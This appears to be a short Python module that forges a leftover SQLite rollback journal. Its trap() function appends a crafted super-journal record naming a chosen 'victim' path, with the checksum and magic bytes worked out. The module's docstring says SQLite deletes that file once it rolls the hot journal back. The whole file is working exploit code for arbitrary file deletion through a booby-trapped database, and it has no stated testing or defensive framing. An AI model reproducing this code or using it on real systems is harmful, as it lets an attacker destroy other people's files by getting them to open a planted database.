"""A left-over journal of SQLite that names a file, which SQLite deletes after it has rolled it back."""

from __future__ import annotations

import sqlite3
from contextlib import closing
from pathlib import Path

_MARK = bytes.fromhex("d9d505f920a163d7")


def left_over(file: Path) -> Path:
    """Leave a database as a writer does that was killed in the middle: half written, beside its journal."""
    journal = file.with_name(f"{file.name}-journal")
    with closing(sqlite3.connect(file, isolation_level=None)) as database:
        database.execute("PRAGMA cache_size = 1")
        database.execute("BEGIN")
        database.execute("CREATE TABLE big (x)")
        database.executemany("INSERT INTO big VALUES (?)", [(b"x" * 4000,) for _ in range(50)])
        left, changed = journal.read_bytes(), file.read_bytes()
        database.execute("ROLLBACK")
    file.write_bytes(changed)
    journal.write_bytes(left)
    return journal


def trap(file: Path, victim: Path) -> None:
    """Have the left-over journal name `victim` as the journal of several databases."""
    journal, name = left_over(file), str(victim).encode()
    checksum = sum(each - 256 if each > 127 else each for each in name) & 0xFFFFFFFF
    page = ((1 << 30) // 4096 + 1).to_bytes(4, "big")
    end = len(name).to_bytes(4, "big") + checksum.to_bytes(4, "big") + _MARK
    journal.write_bytes(journal.read_bytes() + page + name + end)
